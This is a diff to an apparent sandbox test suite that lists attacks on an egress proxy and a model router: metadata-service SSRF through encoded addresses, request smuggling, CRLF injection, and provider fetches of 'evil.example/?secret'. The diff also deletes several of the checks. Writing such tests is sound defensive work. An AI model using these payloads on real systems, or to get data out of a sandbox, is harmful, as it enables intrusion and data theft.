@@ -38,48 +38,45 @@ const at = (
   what: string,
   order: (around: Surroundings) => Order,
   succeeded = REACHED,
-): NetworkAttack => ({ id, what, layers: [layer], orders: (around) => [order(around)], succeeded });
+): NetworkAttack => ({ id, what, layer, orders: (around) => [order(around)], succeeded });
 
-const proxy = at.bind(undefined, 'egress-decision');
-const router = at.bind(undefined, 'router-decision');
+const proxy = at.bind(undefined, 'egress');
+const router = at.bind(undefined, 'model');
 const LOOPBACK_PORT = 8091;
 
 const targets: readonly NetworkAttack[] = [
-  proxy('proxy-name', 'asks the proxy for a host that policy does not name', () =>
+  proxy('proxy-name', 'ask the proxy for a host that policy does not name', () =>
     tunnel('evil.example:443'),
   ),
-  proxy('proxy-service', 'asks the proxy for a Service of the cluster by its name', () =>
+  proxy('proxy-service', 'ask the proxy for a Service of the cluster by its name', () =>
     tunnel('kubernetes.default.svc:443'),
   ),
-  proxy('proxy-pod', 'asks the proxy for another pod by its address', ({ ipv4 }) =>
-    tunnel(`${ipv4}:${WORLD_PORT}`),
-  ),
-  proxy('proxy-api-server', 'asks the proxy for the API server', () =>
+  proxy('proxy-api-server', 'ask the proxy for the API server', () =>
     tunnel(`${famous.apiServer}:443`),
   ),
-  proxy('proxy-doh', 'asks the proxy for a resolver over HTTPS', () =>
+  proxy('proxy-doh', 'ask the proxy for a resolver over HTTPS', () =>
     tunnel(`${famous.publicDns}:443`),
   ),
-  proxy('proxy-metadata', 'asks the proxy for the metadata service', () =>
+  proxy('proxy-metadata', 'ask the proxy for the metadata service', () =>
     tunnel(`${famous.metadata}:80`),
   ),
-  proxy('proxy-metadata-ipv6', 'asks the proxy for the metadata service over IPv6', () =>
+  proxy('proxy-metadata-ipv6', 'ask the proxy for the metadata service over IPv6', () =>
     tunnel(`[${famous.awsMetadata}]:80`),
   ),
-  proxy('proxy-metadata-number', 'writes the address of the metadata service as one number', () =>
+  proxy('proxy-metadata-number', 'write the address of the metadata service as one number', () =>
     absolute('http://2852039166/', '2852039166'),
   ),
-  proxy('proxy-metadata-octal', 'writes the address of the metadata service in octal', () =>
+  proxy('proxy-metadata-octal', 'write the address of the metadata service in octal', () =>
     absolute('http://0251.0376.0251.0376/', '0251.0376.0251.0376'),
   ),
-  proxy('proxy-metadata-mapped', 'writes the metadata service as an IPv4-mapped address', () =>
+  proxy('proxy-metadata-mapped', 'write the metadata service as an IPv4-mapped address', () =>
     tunnel('[::ffff:a9fe:a9fe]:80'),
   ),
-  proxy('proxy-metadata-translated', 'writes the metadata service as an address of NAT64', () =>
+  proxy('proxy-metadata-translated', 'write the metadata service as an address of NAT64', () =>
     tunnel(`[${famous.translatedMetadata}]:80`),
   ),
   {
-    ...proxy('proxy-loopback', 'asks the proxy for loopback, where it may connect as itself', () =>
+    ...proxy('proxy-loopback', 'ask the proxy for loopback, where it may connect as itself', () =>
       tunnel(`127.0.0.1:${LOOPBACK_PORT}`),
     ),
     orders: () => [
@@ -87,31 +84,21 @@ const targets: readonly NetworkAttack[] = [
       tunnel(`127.0.0.1:${LOOPBACK_PORT}`),
     ],
   },
-  {
-    id: 'proxy-own',
-    what: 'asks the proxy for the status of a sidecar at the address of the pod',
-    layers: ['egress-decision', 'packet-rules'],
-    orders: ({ own }) => [tunnel(`${own}:${processes.router.statusPort}`)],
-    succeeded: /^HTTP\/1\.1 200[^]*HTTP\/1\.1 \d/,
-  },
 ];
 
 const readings: readonly NetworkAttack[] = [
-  proxy('proxy-connect-host', 'names an allowed host in the header of a tunnel elsewhere', () =>
-    tunnel('evil.example:80', `${ALLOWED_HOST}:80`),
-  ),
   proxy(
     'proxy-absolute-host',
-    'names another host in the header than in the target',
+    'name another host in the header than in the target',
     () => absolute(`http://${ALLOWED_HOST}/`, 'evil.example'),
     /reached[^]*host: evil\.example/i,
   ),
-  proxy('proxy-user', 'writes an allowed host as the user of another', () =>
+  proxy('proxy-user', 'write an allowed host as the user of another', () =>
     absolute(`http://${ALLOWED_HOST}@evil.example/`, 'evil.example'),
   ),
   proxy(
     'proxy-two-lengths',
-    'says in two ways where a body ends, and hides a request behind it',
+    'say in two ways where a body ends, and hides a request behind it',
     () =>
       toProxy(
         `${lines(`POST http://${ALLOWED_HOST}/ HTTP/1.1`, `host: ${ALLOWED_HOST}`, 'content-length: 43', 'transfer-encoding: chunked')}0${CRLF}${CRLF}${lines('GET /smuggled HTTP/1.1', 'host: evil')}`,
@@ -120,13 +107,13 @@ const readings: readonly NetworkAttack[] = [
   ),
   proxy(
     'proxy-line-break',
-    'breaks the line of a request, and writes a header of its own',
+    'break the line of a request, and writes a header of its own',
     () => absolute(`http://${ALLOWED_HOST}/\rx-injected:1`, ALLOWED_HOST),
     /reached[^]*x-injected/,
   ),
   proxy(
     'proxy-pipeline',
-    'puts a request for another host behind one that is allowed',
+    'put a request for another host behind one that is allowed',
     () =>
       toProxy(
         lines(`GET http://${ALLOWED_HOST}/first HTTP/1.1`, `host: ${ALLOWED_HOST}`) +
@@ -136,12 +123,12 @@ const readings: readonly NetworkAttack[] = [
   ),
   proxy(
     'proxy-upgrade',
-    'turns an allowed request into a WebSocket that nobody reads',
+    'turn an allowed request into a WebSocket that nobody reads',
     () =>
       absolute(`http://${ALLOWED_HOST}/`, ALLOWED_HOST, 'upgrade: websocket', 'sec-websocket-version: 13'), // prettier-ignore
     /reached[^]*upgrade: websocket/i,
   ),
-  proxy('proxy-http2', 'speaks HTTP/2 to the proxy without asking', () =>
+  proxy('proxy-http2', 'speak HTTP/2 to the proxy without asking', () =>
     toProxy(`${lines('PRI * HTTP/2.0')}SM${CRLF}${CRLF}`),
   ),
 ];
@@ -173,32 +160,29 @@ const chat = (more: object, content: unknown = 'x'): Order =>
 const URL = 'https://evil.example/?secret';
 
 const reaches: readonly NetworkAttack[] = [
-  router('provider-image', 'has the provider fetch an image', () =>
+  router('provider-image', 'have the provider fetch an image', () =>
     chat({}, [{ type: 'image_url', image_url: { url: URL } }]),
   ),
-  router('provider-search', 'has the provider search the web', () =>
+  router('provider-search', 'have the provider search the web', () =>
     chat({ web_search_options: {} }),
   ),
-  router('provider-mcp', 'has the provider call a server of MCP', () =>
+  router('provider-mcp', 'have the provider call a server of MCP', () =>
     chat({ tools: [{ type: 'mcp', server_label: 'x', server_url: URL }] }),
   ),
-  router('provider-file', 'has the provider read a file that it has kept', () =>
+  router('provider-file', 'have the provider read a file that it has kept', () =>
     chat({}, [{ type: 'file', file: { file_id: 'file-1' } }]),
   ),
-  router('provider-store', 'has the provider keep the conversation', () => chat({ store: true })),
-  router('provider-model', 'asks for a model that policy does not name', () =>
-    chat({ model: 'other' }),
-  ),
-  router('provider-traversal', 'climbs from the chat to the files of the provider', () =>
+  router('provider-store', 'have the provider keep the conversation', () => chat({ store: true })),
+  router('provider-traversal', 'climb from the chat to the files of the provider', () =>
     ask('/v1/chat/completions/../../v1/files', { purpose: 'assistants' }),
   ),
   router(
     'router-relay',
-    'uses the router as a proxy, with a target in absolute form',
+    'use the router as a proxy, with a target in absolute form',
     ({ ipv4 }) =>
     toRouter(lines(`GET http://${ipv4}:${WORLD_PORT}/ HTTP/1.1`, `host: ${ipv4}`, 'connection: close')), // prettier-ignore
   ),
-  router('router-tunnel', 'asks the router for a tunnel', ({ ipv4 }) =>
+  router('router-tunnel', 'ask the router for a tunnel', ({ ipv4 }) =>
     toRouter(lines(`CONNECT ${ipv4}:${WORLD_PORT} HTTP/1.1`, `host: ${ipv4}`), { then: GET }),
   ),
 ];
